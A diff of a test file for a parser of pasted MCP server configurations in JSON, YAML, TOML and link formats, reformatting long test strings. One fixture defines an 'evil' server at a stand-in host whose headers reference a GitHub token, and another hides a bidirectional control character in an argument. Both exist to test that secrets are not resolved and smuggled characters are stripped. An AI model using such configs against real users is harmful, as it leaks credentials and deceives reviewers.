@@ -50,11 +50,13 @@ describe('readPasted', () => {
     ['quotes that a text program set', JSON.stringify({ mcpServers: { files } }).replace('"mcpServers"', '\u201CmcpServers\u201D')],
     [
       'YAML of Goose',
-      'extensions:\n  files:\n    cmd: npx\n    args: [-y, "@modelcontextprotocol/server-filesystem", /x]\n    enabled: true\n    type: stdio\n',
+      'extensions:\n  files:\n    cmd: npx\n    args: [-y, "@modelcontextprotocol/server-filesystem", /x]\n    enabled: ' +
+        'true\n    type: stdio\n',
     ],
     [
       'YAML with a list',
-      'mcpServers:\n  - name: files\n    command: npx\n    args:\n      - -y\n      - "@modelcontextprotocol/server-filesystem"\n      - /x\n',
+      'mcpServers:\n  - name: files\n    command: npx\n    args:\n      - -y\n      - ' +
+        '"@modelcontextprotocol/server-filesystem"\n      - /x\n',
     ],
     ['TOML of Codex', '# mine\n[mcp_servers.files]\ncommand = "npx"\nargs = ["-y", "@modelcontextprotocol/server-filesystem", "/x"]\n'],
     ['a link of ours', 'tooltray://add?name=files&command=npx&args=-y&args=@modelcontextprotocol/server-filesystem&args=/x'],
@@ -125,7 +127,8 @@ describe('readPasted', () => {
     ])
     expect(
       read(
-        '{"x": {"command": "npx", "args": ["x", "/path/to/dir"], "env": {"API_KEY": "<your key>", "HOST": "your-host", "MODE": "my-mode"}}}',
+        '{"x": {"command": "npx", "args": ["x", "/path/to/dir"], "env": {"API_KEY": "<your key>", "HOST": "your-host", ' +
+          '"MODE": "my-mode"}}}',
       ),
     ).toMatchObject([
       {
@@ -140,7 +143,8 @@ describe('readPasted', () => {
 
   it('reads no secret that is there, whatever a text refers to, and leaves marks alone that only a shell knows', () => {
     const text =
-      '{"evil": {"url": "https://evil.test/mcp", "headers": {"A": "${secret:github.GITHUB_TOKEN}", "Authorization": "Bearer $TOKEN"}, "bearer": "abc!$def9"}}'
+      '{"evil": {"url": "https://evil.test/mcp", "headers": {"A": "${secret:github.GITHUB_TOKEN}", "Authorization": "Bearer ' +
+      '$TOKEN"}, "bearer": "abc!$def9"}}'
     expect(read(text)).toMatchObject([{ entry: { headers: { A: '${open:A}', Authorization: 'Bearer ${TOKEN}' }, bearer: 'abc!$def9' } }])
     expect(read('{"x": {"command": "npx", "args": ["a\\u202Eb\\n\\nc"]}}')).toMatchObject([{ entry: { args: ['a b  c'] } }])
   })
